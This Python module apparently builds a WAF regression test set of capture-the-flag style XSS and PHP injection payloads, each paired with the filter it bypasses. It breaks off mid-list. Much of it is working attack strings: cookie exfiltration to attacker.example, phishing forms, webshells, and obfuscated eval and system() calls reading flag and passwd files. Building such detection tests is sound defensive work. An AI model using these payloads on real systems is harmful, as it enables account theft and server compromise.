"""Blind set "hundredfiftysixth": cross-site scripting and PHP injection written the way capture-the-flag players
solve web challenges, with benign requests that carry the same words innocently.

The angle: each payload is the winning input of a CTF web challenge as write-ups show it (recalled from memory,
never looked up). Every challenge has a filter, so the payload works under a constraint (no spaces, no quotes, no
parentheses, a keyword blacklist, a length limit, a non-recursive strip, no letters or digits, a regex on the
serialized form, an extension blacklist, a second-order sink, a parser differential) and still reaches the
family's real goal: pop an alert or steal the admin bot's cookie, read the flag file, run a command, include a
remote file, reach an internal service. The comment above each group names the constraint and the target (the
browser, sanitizer or client framework; the PHP interpreter, wrapper, php-cgi / PHP-FPM or framework gadget).

Families and sub-families (the detection titles as remembered):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction),
    javascript-uri, html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-client-template
  php: php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/
    create_function/preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://,
    zip://, glob://), php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file,
    allow_url_include), superglobals, php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body that is not key=value, or in User-Agent, Referer, a custom header or a cookie. Payloads that are
themselves a query string (php-cgi argument injection, extract() overwrites, AngularJS filter chains typed into
the URL, XOR-built function names already percent-encoded) go verbatim as the query ("raw-query"); upload names
go as multipart filenames (a GIF-magic body, so the name is what is tested); an SVG document goes as the XML body.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Serialized PHP strings, base64, hex and bitwise-NOT forms are computed here (so lengths and encodings are right).
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import urllib.parse
import zlib
from collections.abc import Iterator
from typing import Any

from .blind_placements import CONTROLS_BUT_NUL, BlindSet, Cycles, Put, Record, request
from .family_gen import _get
from .records import print_records

NAME = "hundredfiftysixth"


# ----------------------------------------------------------------------------------------------------------------
# Small encoders (so every length, base64 and escape in a payload is right)
def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _hex(text: str) -> str:
    return text.encode().hex()


def _not(text: str) -> str:
    """PHP double-quoted escapes of the bitwise NOT of `text` (~"..." gives `text` back)."""
    return "".join(f"\\x{0xFF - b:02x}" for b in text.encode())


def _deflate_b64(text: str) -> str:
    """gzdeflate() output, base64 (what gzinflate(base64_decode(...)) unpacks)."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(co.compress(text.encode()) + co.flush()).decode()


def _s(value: str) -> str:
    return f's:{len(value.encode())}:"{value}";'


def _prot(name: str) -> str:
    return "\x00*\x00" + name


def _priv(cls: str, name: str) -> str:
    return "\x00" + cls + "\x00" + name


def _o(cls: str, props: list[tuple[str, str]], count: int | None = None, plus: bool = False) -> str:
    """A serialized object; `count` overrides the property count (the __wakeup bypass), `plus` writes O:+N."""
    n = len(props) if count is None else count
    body = "".join(_s(k) + v for k, v in props)
    return f'O:{"+" if plus else ""}{len(cls)}:"{cls}":{n}:{{{body}}}'


def _a(items: list[tuple[str, str]]) -> str:
    """A serialized array of (serialized key, serialized value)."""
    return f"a:{len(items)}:{{{''.join(k + v for k, v in items)}}}"


def _c(cls: str, data: str) -> str:
    return f'C:{len(cls)}:"{cls}":{len(data)}:{{{data}}}'


def _no_alnum_system_get() -> str:
    """SYSTEM($_GET['_']) built from "Array"[0] and ++ alone (no letters, no digits)."""
    out = "$_=[];$_=@\"$_\";$_=$_['!'=='@'];$___='';"
    for ch in "SYSTEM":
        out += "$__=$_;" + "$__++;" * (ord(ch) - ord("A")) + "$___.=$__;"
    out += "$____='_';"
    for ch in "GET":
        out += "$__=$_;" + "$__++;" * (ord(ch) - ord("A")) + "$____.=$__;"
    return out + "$___($$____['_']);"


# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place.
Entry = str | tuple[str, str, str]

ATTACKER = "attacker.example"
SVG_IMG = "<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>"

# --- xss -------------------------------------------------------------------------------------------------------
# libinjection-xss: breaking out of the reflection context first (Chrome / Firefox, reflected by a PHP page)
LIBINJECTION: list[Entry] = [
    # length limit of 24, reflected inside a double-quoted value attribute
    '"><svg onload=alert(1)>',
    "'><img src onerror=alert(1)>",
    # no angle brackets allowed, still inside the attribute: a new attribute on an input
    '" autofocus onfocus=alert(document.domain) x="',
    "' onmouseover='alert(document.cookie)",
    # reflected inside <textarea> / <title> / <noscript> / <style>: close the raw-text element first
    "</textarea><img src=x onerror=alert(document.cookie)>",
    "</title><svg onload=alert(origin)>",
    "</noscript><img src=x onerror=alert(1)>",
    "</style><svg onload=fetch('//attacker.example/?c='+document.cookie)>",
    "</iframe><script>alert(document.domain)</script>",
    # reflected inside an HTML comment or a CDATA section of an XHTML page
    "--><svg onload=alert(document.domain)><!--",
    "--!><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)><![CDATA[",
    # "script" stripped once, not recursively (PHP str_replace)
    "<scrscriptipt>alert(document.cookie)</scrscriptipt>",
    # custom element, no blacklisted tag name; needs #x in the URL to fire
    "<xss id=x tabindex=1 onfocus=alert(document.cookie)></xss>",
    # the classic polyglot from the write-ups: fires in most contexts at once
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/"
    "--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    # reflected between unquoted attribute values, spaces stripped
    "x/onmouseover=alert(1)/",
    # length limit of 16: the shortest vectors
    "<svg/onload=alert(1)>",
    "<b/onclick=alert(1)>bold",
    # lowercase-only filter: uppercase tag names still parse
    "<IMG SRC=x ONERROR=alert(1)>",
    "</option></select><details open ontoggle=alert(document.domain)>",
]

# script-tag: a <script> element (Chrome 120+, Firefox 120+), the challenge's filter named per group
SCRIPT_TAG: list[Entry] = [
    # no parentheses
    "<script>onerror=alert;throw document.cookie</script>",
    "<script>alert`1`</script>",
    "<script>{onerror=alert}throw 1337</script>",
    "<script>throw onerror=eval,'=alert\\x281\\x29'</script>",
    # case-sensitive blacklist on "script"
    "<ScRiPt>alert(document.domain)</sCrIpT>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    # no spaces
    "<script/src=//attacker.example/a.js></script>",
    "<script\x0csrc=//attacker.example/ff.js></script>",
    # "alert" blacklisted
    "<script>window['al'+'ert'](document.cookie)</script>",
    "<script>top[/al/.source+/ert/.source](1)</script>",
    "<script>eval(atob('" + _b64("alert(document.cookie)") + "'))</script>",
    # steal the admin bot's cookie (report-to-admin challenges)
    "<script>new Image().src='//attacker.example/c?'+document.cookie</script>",
    "<script>fetch('https://attacker.example/?c='+btoa(document.cookie))</script>",
    "<script>location='//attacker.example/?'+document.cookie</script>",
    # non-recursive strip of "<script>"
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # CSP script-src 'self': a same-origin JSONP endpoint or a whitelisted CDN JSONP
    "<script src=/api/users?callback=alert(1)//></script>",
    "<script src=https://www.google.com/complete/search?client=chrome&jsonp=alert(document.domain)></script>",
    # CSP with 'unsafe-eval' only: module imports and data: sources
    "<script type=module>import('//attacker.example/m.js')</script>",
    "<script src=data:,alert(document.domain)></script>",
    "<script>import('data:text/javascript,alert(1)')</script>",
    # length limit: payload in the fragment, the reflected part only evaluates it
    "<script>eval(location.hash.slice(1))</script>",
    # "</script>" stripped: an unterminated script still runs at the end of the page
    "<script>alert(document.domain)//",
]

# event-handler: on* attributes (Chrome / Firefox); the blacklist named per group
EVENT_HANDLER: list[Entry] = [
    # "on\w+\s*=" with a space only: slashes as separators
    "<img/src/onerror=alert(document.domain)>",
    "<body/onload=alert(document.cookie)>",
    "<svg/onload=alert(1)//",
    # common events blacklisted: newer events no list has
    "<details/open/ontoggle=confirm(1)>",
    "<video autoplay onplay=alert(1)><source src=//attacker.example/a.mp4></video>",
    "<input onauxclick=alert(1)>",
    "<div onpointerover=alert(1)>hover me</div>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<form><button onfocusin=alert(1) autofocus>go</button></form>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    "<div draggable=true ondragstart=alert(1)>drag me</div>",
    "<iframe onload=alert(document.domain)>",
    "<textarea autofocus onfocus=alert(document.cookie)>",
    # no parentheses: tagged templates, entities inside the attribute, throw
    "<img src=x onerror=alert`1`>",
    "<svg onload=alert&lpar;1&rpar;>",
    "<img src=x onerror=window.onerror=alert;throw+1>",
    # "alert" and "document.cookie" blacklisted: code kept in another attribute
    "<img src=x id=YWxlcnQoMSk= onerror=eval(atob(this.id))>",
    "<img src=1 onerror=\"fetch('//attacker.example/'+document['coo'+'kie'])\">",
    "<svg onload=\"import('//attacker.example/x.js')\">",
]

# attribute-vector: src / href / style / formaction / srcdoc (Chrome / Firefox)
ATTRIBUTE: list[Entry] = [
    # <script> and on* stripped, forms allowed
    "<form><button formaction=javascript:alert(1)>Submit</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(document.domain)>X</button>",
    "<input type=submit form=login formaction=//attacker.example/steal value=Login>",
    # iframes allowed, src checked for "http" only
    "<iframe src=javascript:alert(document.domain)>",
    "<iframe srcdoc=\"<script>alert(parent.document.cookie)</script>\">",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    # data: allowed as a link target
    "<a href=data:text/html;base64," + _b64("<script>alert(1)</script>") + ">x</a>",
    "<object data=\"data:text/html;base64," + _b64("<script>alert(document.domain)</script>") + "\">",
    "<embed src=\"data:image/svg+xml;base64," + _b64("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    + "\">",
    # injected into an existing attribute; hidden input (needs Alt+Shift+X in Chrome)
    "\" accesskey=\"x\" onclick=\"alert(1)\" x=\"",
    "<input type=hidden accesskey=x onclick=alert(document.cookie)>",
    # href checked by startswith("http") only
    "<a href='javascript:fetch(\"//attacker.example/?\"+document.cookie)'>click</a>",
    "<frameset><frame src=javascript:alert(document.cookie)></frameset>",
    # style attribute allowed (old Firefox / IE)
    "\" style=\"background:url(javascript:alert(1))",
    # link import (old Chrome)
    "<link rel=import href=//attacker.example/x.html>",
    # ping exfiltrates to the attacker when a link is followed
    "<a ping=//attacker.example/log href=#>free flag</a>",
    # video poster / image src swap (old Opera)
    "<video poster=javascript:alert(1)//></video>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
]

# javascript-uri: a user-controlled URL lands in href / location (Chrome / Firefox)
JAVASCRIPT_URI: list[Entry] = [
    "javascript:alert(document.cookie)",
    # case-sensitive check for "javascript:"
    "JaVaScRiPt:alert(1)",
    # the URL parser drops tabs and newlines and leading controls
    "java\tscript:alert(1)",
    "java\nscript:alert(document.domain)",
    "\tjavascript:alert(1)",
    # "must contain //" or "must contain the allowed host": a comment, then a newline
    "javascript://%0aalert(1)",
    "javascript://allowed.example.com/%0aalert(document.domain)",
    "javascript://comment%0d%0aalert(document.cookie)",
    "javascript:alert(1)//https://allowed.example.com/",
    # "alert" blacklisted
    "javascript:top['al'+'ert'](1)",
    "javascript:%61lert(1)",
    "javascript:\\u0061lert(1)",
    "javascript:''.constructor.constructor('alert(1)')()",
    # exfiltrate from the admin bot
    "javascript:fetch('//attacker.example/?'+document.cookie)",
    "javascript:window.location='https://attacker.example/?c='+document.cookie",
    "javascript:void(document.body.innerHTML='<img src=x onerror=alert(1)>')",
    # length limit: the real payload lives in window.name / the fragment
    "javascript:eval(name)",
    "javascript:eval(location.hash.substr(1))",
    # other schemes (IE, Chrome popups)
    "vbscript:msgbox(document.cookie)",
    "data:text/html,<script>alert(opener.document.cookie)</script>",
]

# html-injection: iframe / object / embed / base / meta / link / form (CSP strict, no script allowed)
HTML_INJECTION: list[Entry] = [
    # CSP without base-uri: relative scripts load from the attacker
    "<base href=//attacker.example/>",
    "<base href=\"https://attacker.example/\" target=_blank>",
    # meta refresh to a phishing page / a javascript: URL
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/phish\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=Set-Cookie content=\"session=attacker; path=/\">",
    # dangling markup: steal the CSRF token that follows the reflection
    "<img src='//attacker.example/?leak=",
    "<form action=//attacker.example/steal><button>Continue</button><textarea name=x>",
    "<base target='",
    # fake login form (credential phishing)
    "<form action=//attacker.example/steal method=post><input name=password type=password placeholder=Password>"
    "<button>Login</button></form>",
    # frame the attacker's page over the real one
    "<iframe src=//attacker.example/phish width=100% height=100% style=position:fixed;top:0;left:0>",
    "<object data=//attacker.example/x.html type=text/html>",
    "<embed src=//attacker.example/x.svg type=image/svg+xml>",
    "<embed code=//attacker.example/x.swf allowscriptaccess=always>",
    "<applet code=Exploit.class codebase=//attacker.example/>",
    "<portal src=//attacker.example/>",
    # CSS exfiltration stylesheet
    "<link rel=stylesheet href=//attacker.example/leak.css>",
    # referrer leak of the token in the URL
    "<meta name=referrer content=unsafe-url><img src=//attacker.example/r>",
    # DOMPurify mXSS via noscript parsing differential
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    # same-origin iframe reads the admin page
    "<iframe src=/admin/users onload=\"fetch('//attacker.example/'+btoa(this.contentDocument.body.innerHTML))\">",
    "<iframe srcdoc=\"<script src=//attacker.example/x.js></script>\">",
]

# svg-mathml: SVG and MathML namespaces (Chrome / Firefox; DOMPurify and sanitize-html differentials)
SVG_MATHML: list[Entry] = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(document.domain) />",
    "<svg><script xlink:href=//attacker.example/x.js></script></svg>",
    # href blacklisted in the markup: set it by animation
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    "<svg><set href=#a attributeName=href to=javascript:alert(1) /><a id=a><text y=20>go</text></a></svg>",
    "<svg><a xlink:href=javascript:alert(document.domain)><text x=20 y=20>XSS</text></a></svg>",
    "<svg><a href=\"javascript&colon;alert(1)\"><rect width=100 height=100 /></a></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml;base64," + _b64(SVG_IMG) + "#x\" />",
    "<svg><discard onbegin=alert(1)>",
    "<svg><animatetransform onbegin=alert(document.domain) attributeName=transform>",
    "<svg onload=alert(document.domain) xmlns=http://www.w3.org/2000/svg>",
    # sanitizer mXSS: style / title content re-parsed in the SVG / MathML namespace
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;"
    "onerror=alert(1)&gt;\">",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    # MathML links (Firefox)
    "<math href=javascript:alert(1)>CLICKME</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
    # an SVG upload opened on the site's own origin
    ("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>",
     "xml", "rs-xml"),
    ("<?xml version=\"1.0\" standalone=\"no\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>"
     "fetch('//attacker.example/?'+document.cookie)</script></svg>", "xml", "rs-xml"),
]

# css-expression: style injection (IE expression(), Firefox -moz-binding, IE behavior, CSS exfiltration)
CSS: list[Entry] = [
    "<div style=\"width:expression(alert(1))\">",
    # "expression" blacklisted: comments and CSS escapes inside the keyword (IE)
    "<div style=\"xss:expr/**/ession(alert(document.cookie))\">",
    "<div style=\"width:\\65xpression(alert(1))\">",
    "<img src=x style=\"background:expression(location='//attacker.example/'+document.cookie)\">",
    # only a style block allowed
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>@import \"//attacker.example/x.css\";</style>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x</li></ul>",
    # Firefox XBL / IE behaviours
    "<div style=\"-moz-binding:url(//attacker.example/xss.xml#xss)\">",
    "<div style=\"behavior:url(//attacker.example/xss.htc)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    # CSS exfiltration of the CSRF token (no script at all under the CSP)
    "<style>input[name=csrf_token][value^=a]{background:url(//attacker.example/leak?a)}</style>",
    "<style>@font-face{font-family:x;src:url(//attacker.example/?A);unicode-range:U+0041}</style>",
    # animation / transition events fire without user interaction
    "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationstart=\"alert(1)\"></xss>",
    "<style>:target{color:red}</style><x id=x style=\"transition:color 1s\" ontransitionend=alert(1)>",
    # injected inside an existing style block or attribute, no tags allowed
    "</style><style>*{x:expression(alert(1))}</style>",
    "{}*{xss:expression(open(alert(1)))}",
    "\" style=\"x:expression(alert(1))",
    "';}</style><script>alert(1)</script><style>",
    "red;}body{background:url(//attacker.example/?css-injected)",
]

# template-literal-dom-sink: JavaScript string / template contexts and DOM sinks (Chrome, jQuery)
DOM_SINK: list[Entry] = [
    # reflected inside a JS template literal
    "${alert(1)}",
    "${fetch('//attacker.example/?'+document.cookie)}",
    "`+alert(document.domain)+`",
    "${Function`alert\\x281\\x29```}",
    # reflected inside a JS string, quotes escaped with a backslash but the backslash not
    "\\';alert(1);//",
    "';alert(document.domain);//",
    "'-alert(1)-'",
    "\"-alert(document.cookie)-\"",
    "'+eval(atob('" + _b64("alert(1)") + "'))+'",
    # string escaped but the script block is not: close it
    "</script><script>alert(1)</script>",
    "</script><svg onload=alert(document.domain)>",
    # location.hash into innerHTML / jQuery $()
    "#<img src=x onerror=alert(1)>",
    "$('<img src=x onerror=alert(document.domain)>')",
    "document.write('<script src=//attacker.example/x.js><\\/script>')",
    "setTimeout(decodeURIComponent(location.hash.slice(1)))",
    # postMessage handler writes innerHTML without an origin check
    "window.postMessage('<img src=x onerror=alert(1)>','*')",
    # DOM clobbering: a sanitizer allows id/name, the page reads window.x.y as a script URL
    "<a id=x><a id=x name=y href=\"//attacker.example/evil.js\">",
    "<a id=defaultAvatar><a id=defaultAvatar name=avatar href=\"cid:&quot;onerror=alert(1)//\">",
    # prototype pollution gadget into innerHTML / srcdoc
    ("__proto__[innerHTML]=<img/src/onerror=alert(1)>", "raw-query", "rs-raw-query"),
    ("constructor[prototype][srcdoc][]=<script>alert(document.domain)</script>", "raw-query", "rs-raw-query"),
]

# ie-filter-style: the old vectors the IE8 XSS filter signatures were written for (IE 6-9, old Netscape/Opera)
IE_FILTER: list[Entry] = [
    "<IMG DYNSRC=\"javascript:alert(1)\">",
    "<IMG LOWSRC=\"javascript:alert(1)\">",
    "<BGSOUND SRC=\"javascript:alert(1);\">",
    "<BR SIZE=\"&{alert(1)}\">",
    "<LAYER SRC=\"//attacker.example/scriptlet.html\"></LAYER>",
    "<TABLE BACKGROUND=\"javascript:alert(1)\">",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<IFRAME SRC=\"vbscript:msgbox(document.cookie)\"></IFRAME>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<//attacker.example/xss.css>; REL=stylesheet\">",
    "<STYLE TYPE=\"text/javascript\">alert(1);</STYLE>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"//attacker.example/scriptlet.html\"></OBJECT>",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<isindex type=image src=1 onerror=alert(1)>",
    # filter bypass: the ">" inside an attribute, an empty attribute name
    "<SCRIPT a=\">\" SRC=\"//attacker.example/xss.js\"></SCRIPT>",
    # IE data islands and HTML components
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert(1)\"></B></I></XML>"
    "<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    "<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"//attacker.example/xss.htc\"><xss:xss>X</xss:xss>",
    "<SCRIPT FOR=window EVENT=onload>alert(document.domain)</SCRIPT>",
    # IE comment / xmp parsing and backtick attribute quotes
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<xmp><img alt=\"</xmp><img src=x onerror=alert(1)>\">",
    "<img src=`x`onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
]

# encoded-entity: HTML entities, JS escapes, double URL encoding, UTF-7, fullwidth (a decoder runs after the filter)
ENCODED: list[Entry] = [
    # the app URL-decodes twice (the payload is percent-encoded once more on the wire)
    "%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    # entity-encoded "javascript:" in href (decimal, hex, padded without semicolons)
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#49;&#41;\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert&lpar;document&period;cookie&rpar;\">x</a>",
    "<img src=x onerror=\"&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;\">",
    # "alert" blacklisted as text: JS identifier escapes
    "<img src=x onerror=\\u0061lert(1)>",
    "<svg onload=\\u{61}lert(document.domain)>",
    "<script>\\u0061\\u006c\\u0065\\u0072\\u0074(1)</script>",
    "<script>eval(\"\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29\")</script>",
    "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
    "<svg><script>&#97;lert(1)</script></svg>",
    # reflected into a JS string that is later written with innerHTML
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "\\u003csvg onload=alert(document.domain)\\u003e",
    # entity-encoded markup in a sink that decodes twice
    "&lt;script&gt;alert(document.cookie)&lt;/script&gt;",
    # charset tricks: UTF-7 (no charset header), fullwidth after NFKC, 7-bit truncation
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "<iframe src=\"data:text/html;base64," + _b64("<script>alert(document.domain)</script>") + "\">",
    "<img src=x onerror=eval(atob`" + _b64("alert(1)").rstrip("=") + "`)>",
]

# angular-vue-client-template: client-side template injection (AngularJS 1.x, Vue 2/3, Alpine.js, Knockout)
CLIENT_TEMPLATE: list[Entry] = [
    # AngularJS >= 1.6: no sandbox
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.domain)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{constructor.constructor('fetch(\"//attacker.example/?\"+document.cookie)')()}}",
    "<div ng-app ng-init=\"constructor.constructor('alert(1)')()\"></div>",
    # AngularJS 1.4 / 1.3 sandbox escapes
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
    # no quotes allowed
    "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
    ("toString().constructor.prototype.charAt%3d[].join;[1]|orderBy:toString().constructor.fromCharCode"
     "(120,61,97,108,101,114,116,40,49,41)=1", "raw-query", "rs-raw-query"),
    # AngularJS with CSP: the event object gives the window
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<input id=x ng-focus=$event.composedPath()|orderBy:'(z=alert)(document.cookie)'>",
    "<div ng-include=\"'//attacker.example/x.html'\"></div>",
    # Vue 2 / 3 templates compiled from the page
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(document.domain)}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<button v-on:click=$event.view.alert(document.cookie)>x</button>",
    # Alpine.js / Knockout bindings
    "<div x-data x-init=\"alert(document.domain)\"></div>",
    "<div data-bind=\"html:'<img src=x onerror=alert(1)>'\"></div>",
]

# --- php -------------------------------------------------------------------------------------------------------
# php-open-tag: code that reaches the PHP interpreter through an include, a log, a session file or a write
# (PHP 5.6 / 7.4 / 8.2)
OPEN_TAG: list[Entry] = [
    # log poisoning / session file for an LFI
    "<?php system($_GET[\"cmd\"]); ?>",
    "<?php @eval($_POST[\"pass\"]);?>",
    "<?php echo shell_exec($_SERVER[\"HTTP_X_CMD\"]); ?>",
    # "php" blacklisted: short echo tags (always on since 5.4)
    "<?=`cat /flag*`?>",
    "<?=`$_GET[0]`;",
    "<?=system($_GET[1])?>",
    "<?=$_GET[a]($_GET[b]);",
    # short_open_tag / asp_tags / script language (PHP 5)
    "<? passthru(\"id\"); ?>",
    "<% system(\"id\"); %>",
    "<%= `id` %>",
    "<script language=\"php\">system(\"cat /flag\");</script>",
    "<script language=php>readfile(\"/flag\")</script>",
    # no spaces: comments, tabs, newlines after the tag
    "<?php/**/echo`ls`;",
    "<?php\techo(`id`);",
    "<?php\nsystem(\"id\");",
    "<?php\r\nreadfile(\"/etc/passwd\");",
    # case-sensitive check for "<?php"
    "<?PhP echo file_get_contents(\"/flag\");",
    # upload content check: image magic first
    "GIF89a<?php system($_GET[\"c\"]); ?>",
    "\x89PNG\r\n<?php passthru($_GET[\"c\"]);?>",
    # the flag file read in different ways
    "<?php echo implode(\",\",scandir(\"/\"));",
    "<?php $f=fopen(\"/flag\",\"r\");echo fread($f,100);?>",
    "<?php highlight_file(\"/var/www/html/flag.php\");",
    "<?php print_r(glob(\"/*\"));",
    "<?php echo $_COOKIE[0]($_COOKIE[1]); ?>",
    # break out of a PHP file that the input is written into
    "?><?php phpinfo();",
    "';?><?php system('id');?>",
    # phar stub
    "<?php __HALT_COMPILER(); ?>",
    # exit prefix bypass in file_put_contents with a base64 write filter (content part)
    "<?php exit();?>" + _b64("<?php system($_GET[0]);?>"),
]

# php-function-call: an eval() / assert() sink in the challenge (PHP 5.6 / 7.4 / 8.2), command-running functions
FUNCTION_CALL: list[Entry] = [
    "system($_GET[1]);",
    # no quotes
    "passthru(chr(105).chr(100));",
    "system(end(getallheaders()));",
    # output not echoed: collect it
    "exec(\"cat /flag\",$o);print_r($o);",
    "echo shell_exec(\"cat /f*\");",
    "echo fread(popen(\"cat /flag\",\"r\"),4096);",
    "proc_open(\"cat /flag\",[1=>[\"pipe\",\"w\"]],$p);echo stream_get_contents($p[1]);",
    "pcntl_exec(\"/bin/sh\",[\"-c\",\"cat /flag>/tmp/o\"]);",
    # assert() as eval (PHP 5 / 7)
    "assert(\"system('id')\");",
    "assert($_POST[0]);",
    # "system" blacklisted: encodings decoded in eval
    "eval(base64_decode(\"" + _b64("system(\"id\");") + "\"));",
    "eval(gzinflate(base64_decode(\"" + _deflate_b64("system('cat /flag');") + "\")));",
    "eval(str_rot13(\"flfgrz('vq');\"));",
    "eval(hex2bin(\"" + _hex("system('cat /flag');") + "\"));",
    # create_function injection (PHP < 8)
    "create_function(\"\",\"}system('id');//\")",
    "$f=create_function('','system($_GET[0]);');$f();",
    # preg_replace /e (PHP < 7), mb_ereg_replace with "e"
    "preg_replace(\"/.*/e\",\"system('id')\",\"x\");",
    ("pat=/.*/e&rep=system('cat+/flag')&sub=x", "raw-query", "rs-raw-query"),
    "mb_ereg_replace(\".*\",\"system('id')\",\"x\",\"e\");",
    # callbacks
    "call_user_func(\"system\",\"id\");",
    "call_user_func_array(\"passthru\",[\"cat /flag\"]);",
    "array_map(\"passthru\",[\"ls -la /\"]);",
    "register_shutdown_function(\"system\",\"id\");",
    "ob_start(\"system\");echo \"id\";ob_end_flush();",
    # flag name blacklisted: shell globs and escapes through system()
    "system(\"cat /fla?\");",
    "system(\"ca\\t /fl\\ag\");",
    "system(strrev(\"galf/ tac\"));",
    "print(`cat /flag`);",
]

# php-variable-functions: the function name built at run time (PHP 7 / 8), keyword blacklists
VARIABLE_FUNCTIONS: list[Entry] = [
    "$_GET[0]($_GET[1]);",
    "$_POST[\"f\"]($_POST[\"c\"]);",
    "$a=\"sys\".\"tem\";$a(\"id\");",
    "$_=\"s\".\"y\".\"s\".\"t\".\"e\".\"m\";$_(\"cat /flag\");",
    "$a=strrev(\"metsys\");$a(\"id\");",
